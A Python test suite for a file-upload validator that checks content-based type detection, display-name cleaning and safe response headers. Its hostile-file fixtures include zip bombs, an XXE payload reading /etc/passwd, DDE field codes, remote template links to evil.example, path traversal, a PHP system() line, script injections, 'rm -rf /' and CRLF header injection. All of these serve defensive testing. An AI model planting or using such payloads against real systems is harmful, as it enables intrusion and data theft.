"""Files from outside: each kind is told by its content, each hostile one is refused in two seconds."""

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from pypdf import PdfWriter

from engine.documents import packages
from engine.documents.uploads import check_upload, safe_headers
from engine.errors import Invalid
from tests.effort import effort_below
from tests.word_files import members, with_part, with_relationship, word_file, zipped

WORD = word_file("We have decided.")


def pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(9, 9)
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def png() -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0\xff\0\0")) + chunk(b"IEND", b"")


def open_document(kind: str, **parts: bytes) -> bytes:
    return zipped({"mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(), "content.xml": b"<x/>", **parts})


def compound(*streams: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + b"".join(name.encode("utf-16-le") for name in streams)


def excel() -> bytes:
    main = f'<Types><Override PartName="/xl/workbook.xml" ContentType="{packages.EXCEL}.main+xml"/></Types>'
    return zipped({"[Content_Types].xml": main.encode(), "xl/workbook.xml": b"<workbook/>"})


JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01" + b"\0" * 20 + b"\xff\xd9"
WEBP = b"RIFF" + struct.pack("<I", 12) + b"WEBPVP8 \0\0\0\0"
MP3_FRAME = b"\xff\xfb\x90\x00" + b"\0" * 413  # 128 kbit/s at 44.1 kHz
EMAIL = b"From: a@example.org\r\nDate: Thu, 3 Dec 2026 10:00:00 +0000\r\nSubject: damp\r\n\r\nHello\r\n"

SOUND = {
    "a.pdf": (pdf(), "application/pdf"),
    "a.jpg": (JPEG, "image/jpeg"),
    "a.jpeg": (JPEG, "image/jpeg"),
    "a.png": (png(), "image/png"),
    "a.webp": (WEBP, "image/webp"),
    "a.heic": (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "image/heic"),
    "a.docx": (WORD, packages.WORD),
    "a.xlsx": (excel(), packages.EXCEL),
    "a.odt": (open_document("text"), "application/vnd.oasis.opendocument.text"),
    "a.ods": (open_document("spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet"),
    "a.txt": ("Größe: 3 < 5 & naïve".encode(), "text/plain"),
    "old.txt": ("caf\xe9 \x93quoted\x94".encode("latin-1"), "text/plain"),
    "utf16.txt": ("Grüße".encode("utf-16"), "text/plain"),
    "a.csv": (b"name,rent\r\nAnn,100.00\r\n", "text/csv"),
    "a.eml": (EMAIL, "message/rfc822"),
    "a.msg": (compound("__nameid_version1.0", "__properties_version1.0"), "application/vnd.ms-outlook"),
    "a.mp4": (b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom", "video/mp4"),
    "a.mov": (b"\0\0\0\x14ftypqt  \0\0\0\0qt  ", "video/quicktime"),
    "a.m4a": (b"\0\0\0\x18ftypM4A \0\0\0\0M4A mp42", "audio/mp4"),
    "a.mp3": (MP3_FRAME * 3, "audio/mpeg"),
    "tagged.mp3": (b"ID3\x04\0\0\0\0\0\0" + MP3_FRAME, "audio/mpeg"),
}


@pytest.mark.parametrize("name", SOUND)
def test_an_accepted_file_is_told_by_its_content(name):
    content, content_type = SOUND[name]

    checked = check_upload(name, content)

    assert checked.content_type == content_type
    assert checked.display_name == name
    assert name.endswith(f".{checked.extension}")


@pytest.mark.parametrize("name", SOUND)
def test_a_file_on_the_disk_is_told_as_its_bytes_are(name, tmp_path: Path):
    file = tmp_path / "upload"
    file.write_bytes(SOUND[name][0])

    assert check_upload(name, file) == check_upload(name, SOUND[name][0])


def test_a_wrong_ending_is_put_right_for_display():
    assert check_upload("photo.jpg", png()).display_name == "photo.png"
    assert check_upload("invoice.pdf.exe", pdf()).display_name == "invoice.pdf.pdf"


def stored_twice(name: str) -> bytes:
    """Return a zip in which two directory entries share one member's bytes (the trick of "a better zip bomb")."""
    content = bytearray(zipped({"[Content_Types].xml": b"x" * 100, name: b"y" * 100}))
    second = content.rfind(b"PK\x01\x02")
    content[second + 42 : second + 46] = struct.pack("<I", 0)
    return bytes(content)


def lying(content: bytes, size: int) -> bytes:
    """Return the zip with its largest member's size stated as `size` in both headers."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        largest = max(archive.infolist(), key=lambda member: member.file_size)
    changed = bytearray(content)
    central = changed.rfind(largest.filename.encode()) - 46
    changed[central + 24 : central + 28] = struct.pack("<I", size)
    changed[largest.header_offset + 22 : largest.header_offset + 26] = struct.pack("<I", size)
    return bytes(changed)


def commented(content: bytes, comment: bytes) -> bytes:
    return content[:-2] + struct.pack("<H", len(comment)) + comment


def encrypted(content: bytes) -> bytes:
    changed = bytearray(content)
    central = changed.find(b"PK\x01\x02")
    changed[central + 8] |= 1
    return bytes(changed)


def content_types(old: str, new: str) -> bytes:
    types = members(WORD)["[Content_Types].xml"].replace(old.encode(), new.encode())
    return with_part(WORD, "[Content_Types].xml", types)


def with_body(xml: str) -> bytes:
    body = members(WORD)["word/document.xml"].replace(b"<w:body>", f"<w:body>{xml}".encode())
    return with_part(WORD, "word/document.xml", body)


def field_code(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f"<w:p>{runs}</w:p>"


DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
BIG = b"\0" * 60_000_000
BOMB = with_part(WORD, "word/media/a.bin", BIG)

HOSTILE = {
    # bombs
    "total.docx": (BOMB, "58 MB; at most 50 MB are accepted"),
    "ratio.docx": (with_part(WORD, "word/media/a.xml", b" " * 5_000_000), "more than 100 times its size"),
    "members.docx": (zipped({f"{number}": b"" for number in range(600)}), "600 parts"),
    "overlap.docx": (stored_twice("a"), "overlap"),
    "lying_small.docx": (lying(BOMB, 1000), "damaged"),
    "lying_large.docx": (lying(WORD, 900_000), "not the size"),
    # what Office files may not carry
    "vba.docx": (with_part(WORD, "word/vbaProject.bin", b"x"), "macros"),
    "vba_renamed.docx": (content_types("application/xml", "application/vnd.ms-office.vbaProject"), "macros"),
    "macro_enabled.docx": (
        content_types(f"{packages.WORD}.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macros",
    ),
    "activex.docx": (with_part(WORD, "word/activeX/activeX1.xml", b"<x/>"), "macros"),
    "ole.docx": (with_part(WORD, "word/embeddings/oleObject1.bin", b"x"), "embedded"),
    "ole_rel.docx": (with_relationship(WORD, "oleObject", "embeddings/x.bin", mode="Internal"), "embedded"),
    "altchunk.docx": (with_relationship(WORD, "aFChunk", "chunk.html", mode="Internal"), "embedded"),
    "template.docx": (with_relationship(WORD, "attachedTemplate", "https://evil.example/t.dotm"), "a template"),
    "picture.docx": (with_relationship(WORD, "image", "https://evil.example/p.png"), "a picture"),
    "frame.docx": (with_relationship(WORD, "frame", "http://evil.example/"), "fetches something"),
    "script_link.docx": (with_relationship(WORD, "hyperlink", "javascript:alert(1)"), "fetches something"),
    "file_link.docx": (with_relationship(WORD, "hyperlink", "file://host/share/x.exe"), "fetches something"),
    "share_link.docx": (with_relationship(WORD, "hyperlink", r"\\host\share\x.exe"), "fetches something"),
    "doctype.docx": (with_part(WORD, "docProps/app.xml", DOCTYPE), "DOCTYPE"),
    "doctype_utf16.docx": (with_part(WORD, "docProps/app.xml", DOCTYPE.decode().encode("utf-16")), "UTF-8"),
    "doctype_utf7.docx": (
        with_part(WORD, "docProps/app.xml", b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x+AD4-'),
        "UTF-8",
    ),
    "dde.docx": (with_body(field_code(" DDEAUTO c:\\\\windows\\\\calc.exe ")), "Word field"),
    "dde_split.docx": (with_body(field_code(" DD", "EAU", "TO calc.exe")), "Word field"),
    "include.docx": (
        with_body('<w:fldSimple w:instr="INCLUDEPICTURE http://evil.example"/>'),
        "Word field",
    ),
    "basic.odt": (open_document("text", **{"Basic/Standard/Module1.xml": b"<x/>"}), "macros"),
    "script.odt": (open_document("text", **{"content.xml": b'<x><script:event-listener a=""/></x>'}), "macros"),
    "image.odt": (
        open_document("text", **{"content.xml": b'<x><draw:image xlink:href="http://evil.example/x"/></x>'}),
        "fetches",
    ),
    "locked.docx": (encrypted(WORD), "password"),
    "locked_office.docx": (compound("EncryptedPackage"), "old or locked"),
    "old.doc": (compound("WordDocument", "Macros"), "old or locked"),
    # zips that are something else
    "stray.docx": (with_part(WORD, "../../etc/cron.d/x", b"x"), "land outside"),
    "absolute.docx": (with_part(WORD, "/etc/cron.d/x", b"x"), "land outside"),
    "plain.zip": (zipped({"a.txt": b"x"}), "is not a document"),
    "program.jar": (zipped({"META-INF/MANIFEST.MF": b"x", "A.class": b"x"}), "is not a document"),
    "cut.docx": (WORD[: len(WORD) // 2], "damaged"),
    "twice_named.docx": (zipped({**members(WORD), "WORD/document.xml": b"<x/>"}), "same name"),
    # two kinds in one
    "prefixed.docx": (b"PK" + b"<html>" + WORD, "two kinds"),
    "suffixed.docx": (WORD + b"<script>alert(1)</script>", "two kinds"),
    "commented.docx": (commented(WORD, b"<script>alert(1)</script>"), "two kinds"),
    "picture_zip.png": (png() + WORD, "two kinds"),
    "picture_zip.jpg": (JPEG + WORD, "two kinds"),
    "pdf_zip.pdf": (pdf() + WORD + b"%%EOF", "two kinds"),
    "picture_page.jpg": (JPEG[:-2] + b"<script>alert(1)</script>\xff\xd9", "hidden"),
    "picture_php.jpg": (JPEG[:-2] + b"<?php system('id')?>\xff\xd9", "hidden"),
    "late.pdf": (b"<html><script>alert(1)</script>" + pdf(), "web page"),
    # pages, programs, and what is not accepted
    "drawing.svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "web page"),
    "drawing.png": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "web page"),
    "page.txt": (b"\xef\xbb\xbf \n<!DOCTYPE html><script>alert(1)</script>", "web page"),
    "page.csv": (b"a,b\n<script>alert(1)</script>", "web page"),
    "mail.eml": (b"<html><script>alert(1)</script>", "accepted"),
    "notes.txt": (b"#!/bin/sh\nrm -rf /", "web page or a program"),
    "notes.bat": (b"del *.*", 'called ".bat"'),
    "notes.py": (b"print(1)", 'called ".py"'),
    "page.html": (b"just words", 'called ".html"'),
    "notes.rtf": (rb"{\rtf1\ansi{\object}}", "web page or a program"),
    "program.exe": (b"MZ\x90\0" + b"\0" * 200, "which is not accepted"),
    "program.txt": (b"\x7fELF\x02\x01\x01" + b"\0" * 200, "which is not accepted"),
    "picture.gif": (b"GIF89a\x01\0\x01\0", "is not accepted"),
    "nothing.pdf": (b"", "empty"),
    "cut.pdf": (pdf()[:200], "it may be damaged"),
    "noise.pdf": (bytes(range(256)) * 40, "not of an accepted kind"),
    "huge.txt": (b"a" * 11_000_000, "at most 10 MB"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_with_a_sentence_and_a_remedy(name):
    content, reason = HOSTILE[name]

    with effort_below(100), pytest.raises(Invalid) as caught:
        check_upload(name, content)

    assert reason in caught.value.message.partition(" was refused because ")[2]
    assert caught.value.message.startswith('"')
    assert caught.value.message.endswith(".")
    assert caught.value.remedy.endswith(".")


def test_a_zip_inside_a_document_is_not_unpacked():
    content = with_part(WORD, "word/embeddings/a.xlsx", zipped({"a": BIG}))

    with effort_below(100):
        check_upload("a.docx", content)


def test_a_link_to_the_web_in_a_letter_is_accepted():
    content = with_relationship(WORD, "hyperlink", "https://www.housing-ombudsman.org.uk/")

    assert check_upload("a.docx", content).content_type == packages.WORD


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("..\\..\\windows\\win.ini", "win.pdf"),
        ("C:\\Users\\ann\\letter.pdf", "letter.pdf"),
        ("a\0b.pdf", "ab.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.pdf"),
        ("zero\u200bwidth\ufeff.pdf", "zerowidth.pdf"),
        ("line\r\nSet-Cookie: x=1.pdf", "line Set-Cookie x=1.pdf"),
        ("CON", "file CON.pdf"),
        ("nul.pdf", "file nul.pdf"),
        ("com1.tar.pdf", "file com1.tar.pdf"),
        ("...", "file.pdf"),
        ("", "file.pdf"),
        (".htaccess", "htaccess.pdf"),
        ("letter.pdf ", "letter.pdf"),
        ('<img src="x">.pdf', "img src=x.pdf"),
        ("Mrs O\u2019Kafor\u2013Größe.pdf", "Mrs O\u2019Kafor\u2013Größe.pdf"),
        ("e\u0301te\u0301.pdf", "\xe9t\xe9.pdf"),
    ],
)
def test_a_name_is_cleaned_for_display(given, shown):
    assert check_upload(given, SOUND["a.pdf"][0]).display_name == shown


def test_a_very_long_name_is_cut_and_keeps_its_ending():
    shown = check_upload("a" * 300 + ".pdf", SOUND["a.pdf"][0]).display_name

    assert len(shown) == 120
    assert shown.endswith("aaa.pdf")


def test_pictures_pdfs_and_texts_are_shown_in_the_page_and_nothing_else_is():
    shown = {kind for _, kind in SOUND.values() if "inline" in safe_headers(kind, "x")["Content-Disposition"]}

    assert shown == {"application/pdf", "image/jpeg", "image/png", "image/webp", "text/plain"}


@pytest.mark.parametrize("content_type", ["text/html", "image/svg+xml", "application/xhtml+xml", "text/javascript"])
def test_a_kind_that_is_not_kept_is_served_as_bytes_to_save(content_type):
    headers = safe_headers(content_type, "x.html")

    assert headers["Content-Type"] == "application/octet-stream"
    assert headers["Content-Disposition"].startswith("attachment;")
    assert headers["Content-Security-Policy"].startswith("sandbox;")


def test_every_file_is_served_without_sniffing_and_without_rights():
    for _, content_type in SOUND.values():
        headers = safe_headers(content_type, "x")
        policy = headers["Content-Security-Policy"]

        assert headers["X-Content-Type-Options"] == "nosniff"
        assert "default-src 'none'" in policy
        assert ("sandbox" in policy) == (content_type != "application/pdf")  # Chromium shows no PDF in a sandbox


def test_a_name_cannot_break_out_of_its_header():
    disposition = safe_headers("application/pdf", 'a"; x="\r\nSet-Cookie: y=1\u202e.pdf')["Content-Disposition"]

    assert "\r" not in disposition and "\n" not in disposition
    assert disposition.count('"') == 2
    assert disposition.isascii()
